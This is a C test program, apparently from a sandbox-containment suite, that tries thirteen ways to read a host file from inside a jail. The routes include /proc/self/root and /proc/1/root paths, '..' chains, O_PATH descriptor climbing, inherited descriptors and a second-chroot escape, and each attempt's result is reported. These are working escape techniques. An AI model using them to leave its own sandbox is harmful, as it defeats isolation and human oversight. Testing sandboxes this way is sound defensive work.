/* Reads a host file or lists a host directory, each path in argv by its plain name and through every side door to the
 * host's root that a bind mount, a descriptor or /proc might leave open. CHEATS 13, 14, 15, 39. */
#include "attempt.h"
#include <dirent.h>
#include <limits.h>

static int look(int fd) {
    if (fd == -1)
        return errno;
    struct stat info;
    if (fstat(fd, &info) == -1)
        return errno;
    if (S_ISDIR(info.st_mode)) {
        DIR *open = fdopendir(fd);
        if (!open)
            return errno;
        errno = 0;
        struct dirent *entry;
        while ((entry = readdir(open)))
            if (strcmp(entry->d_name, ".") && strcmp(entry->d_name, ".."))
                return 0;
        return errno ? errno : ENODATA;
    }
    char byte;
    ssize_t got = read(fd, &byte, 1);
    return got == 1 ? 0 : got == 0 ? ENODATA : errno;
}

static int plain(const char *path) { return look(open(path, O_RDONLY)); }

static int behind(const char *prefix, const char *path) {
    char joined[2 * PATH_MAX];
    snprintf(joined, sizeof joined, "%s%s", prefix, path);
    return plain(joined);
}

#define UP "/../../../../../../../../../../../.."
static int dotdot(const char *path) { return behind(".." UP, path); }
static int own_root(const char *path) { return behind("/proc/self/root", path); }
static int above_own_root(const char *path) { return behind("/proc/self/root" UP, path); }
static int own_cwd(const char *path) { return behind("/proc/self/cwd" UP, path); }
static int thread_root(const char *path) { return behind("/proc/thread-self/root", path); }
static int init_root(const char *path) { return behind("/proc/1/root", path); }
static int init_cwd(const char *path) { return behind("/proc/1/cwd" UP, path); }

/* Climbs with one O_PATH descriptor at a time: no path that a check could normalise. */
static int climb(const char *path) {
    int at = open(".", O_PATH | O_DIRECTORY);
    for (int level = 0; level < 64 && at != -1; level++)
        at = openat(at, "..", O_PATH | O_DIRECTORY);
    return at == -1 ? errno : look(openat(at, path + 1, O_RDONLY));
}

static int descriptor(const char *path) {
    int at = open("/", O_PATH | O_DIRECTORY);
    char door[64];
    snprintf(door, sizeof door, "/proc/self/fd/%d" UP, at);
    return at == -1 ? errno : behind(door, path);
}

/* An O_PATH handle opened without read permission, then reopened with it. */
static int reopen(const char *path) {
    int handle = open(path, O_PATH);
    char door[64];
    snprintf(door, sizeof door, "/proc/self/fd/%d", handle);
    return handle == -1 ? errno : plain(door);
}

/* Any descriptor that somebody left open is a starting point. */
static int leftover(const char *path) {
    for (int fd = 3; fd < 1024; fd++) {
        int found = openat(fd, path + 1, O_RDONLY);
        if (found == -1 && fcntl(fd, F_GETFD) != -1) {
            int up = fd;
            for (int level = 0; level < 64 && up != -1; level++)
                up = openat(up, "..", O_PATH | O_DIRECTORY);
            found = up == -1 ? -1 : openat(up, path + 1, O_RDONLY);
        }
        if (found != -1)
            return look(found);
    }
    return EBADF;
}

/* The classic: a second chroot below the working directory leaves the working directory outside of it. */
static int second_chroot(const char *path) {
    if (mkdir("/tmp/jail", 0700) == -1 && errno != EEXIST)
        return errno;
    if (chroot("/tmp/jail") == -1)
        return errno;
    for (int level = 0; level < 64; level++)
        if (chdir("..") == -1)
            return errno;
    return look(open(path + 1, O_RDONLY));
}

int main(int count, char **paths) {
    for (int i = 1; i < count; i++) {
        char *path = paths[i];
        printf("# %d\n", i);
        attempt("plain", plain, path);
        attempt("dotdot", dotdot, path);
        attempt("own-root", own_root, path);
        attempt("above-own-root", above_own_root, path);
        attempt("own-cwd", own_cwd, path);
        attempt("thread-root", thread_root, path);
        attempt("init-root", init_root, path);
        attempt("init-cwd", init_cwd, path);
        attempt("climb", climb, path);
        attempt("descriptor", descriptor, path);
        attempt("reopen", reopen, path);
        attempt("leftover", leftover, path);
        attempt("second-chroot", second_chroot, path);
    }
}
